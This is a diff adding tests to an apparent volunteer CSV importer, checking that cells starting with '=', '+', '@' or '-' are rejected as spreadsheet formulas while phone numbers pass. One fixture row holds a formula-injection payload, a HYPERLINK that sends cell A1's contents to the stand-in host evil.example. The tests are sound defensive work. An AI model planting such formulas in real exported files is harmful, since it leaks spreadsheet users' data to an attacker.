@@ -264,3 +264,32 @@ def test_a_workbook_title_row_is_passed_over(app, name):
     assert table.row_numbers[0] == 3 and table.rows[0][0] == "Mérgé"
     assert "Row 1 looks like a title: the column titles were taken from row 2." in table.notes
     assert automatic_mapping(table.headers)[-1] == "gender"
+
+
+# --- 8. formula text in a CSV --------------------------------------------------------------------
+
+
+def test_formula_text_in_a_csv_is_refused_in_text_fields(app, db, tmp_path):
+    path = tmp_path / "formulas.csv"
+    path.write_text(
+        "First name,Last name,Phone,Notes\n"
+        "=1+1,Formula,,\n"
+        '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",Hyper,,\n'
+        "@SUM(1+1),+Plus,,\n"
+        "Ana,Silva,+351 912 345 678,- vegetarian\n"
+        "Omar,'=Haddad,,\n", encoding="utf-8")
+    result = app.test_cli_runner().invoke(args=["volunteers", "import", str(path),
+                                                "--dry-run"])
+    assert "2 valid row(s), 3 with errors" in result.output, result.output
+    assert "“=1+1” starts with “=”: a spreadsheet would run it as a formula" in result.output
+    assert "“+Plus” starts with “+”" in result.output
+    assert "would create Ana Silva" in result.output
+    assert "would create Omar =Haddad" in result.output  # an apostrophe says it is meant
+
+
+@pytest.mark.parametrize(("cell", "formula"), [
+    ("=1+1", True), ("@SUM(A1)", True), ("+Plus", True), ("-2+3*cmd", True),
+    ("+33 6 12 34 56 78", False), ("-3", False), ("- vegetarian", False), ("-", False),
+    ("Ana", False), ("", False)])
+def test_looks_like_formula(cell, formula):
+    assert reading.looks_like_formula(cell) is formula
